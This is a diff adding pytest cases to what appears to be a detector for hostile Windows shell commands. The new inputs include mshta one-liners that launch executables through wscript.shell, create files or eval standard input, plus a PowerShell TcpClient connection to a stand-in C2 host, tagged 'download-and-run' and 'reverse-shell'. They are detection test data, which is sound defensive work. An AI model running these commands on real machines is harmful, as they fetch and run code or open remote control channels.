@@ -117,6 +117,8 @@ def test_a_name_in_pieces_is_remarked_on(script: str) -> None:
         "sc create demo binPath= C:\\demo\\demo.exe",
         "attrib +r demo.txt",
         "copy a.txt b.txt & xcopy /s src dst",
+        "powershell \"$t = New-Object Net.Sockets.TcpClient; $t.Connect('server.example.invalid', 25); $t.Connected\"",
+        """mshta "javascript:close(new ActiveXObject('Scripting.FileSystemObject').GetStandardStream(1).Write(1))" | more""",
         "wmic os get caption",
         "net use Z: \\\\server\\share",
     ],
@@ -179,6 +181,25 @@ def test_what_flows_into_an_act_is_told(script: str) -> None:
 def test_code_inside_texts_is_read_in_its_language(script: str, language: str) -> None:
     found = [each for each in seen(script, "code.exec") if "net.http" in each.inputs]
     assert {each.language for each in found} == {language}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'mshta vbscript:Execute("createobject(""wscript.shell"").run(""a.exe"")")',
+        "mshta vbscript:Execute(Chr(77)&Chr(78))",
+        'mshta vbscript:Execute("createobject(""scripting.filesystemobject"").createtextfile(""a"")")',
+        "mshta \"javascript:GetObject('script:' + a);new ActiveXObject('Scripting.FileSystemObject')\"",
+        "mshta \"javascript:eval(new ActiveXObject('Scripting.FileSystemObject').GetStandardStream(0).ReadAll())\"",
+    ],
+)
+def test_a_script_for_mshta_that_does_more_than_ask_is_told(script: str) -> None:
+    assert "download-and-run" in rules(script)
+
+
+def test_a_connection_of_which_something_is_read_is_told() -> None:
+    line = "$c = New-Object Net.Sockets.TcpClient('c2.example.invalid', 443); $s = $c.GetStream()"
+    assert "reverse-shell" in rules(f'powershell -c "{line}"')
 
 
 def test_an_encoded_command_is_decoded() -> None:
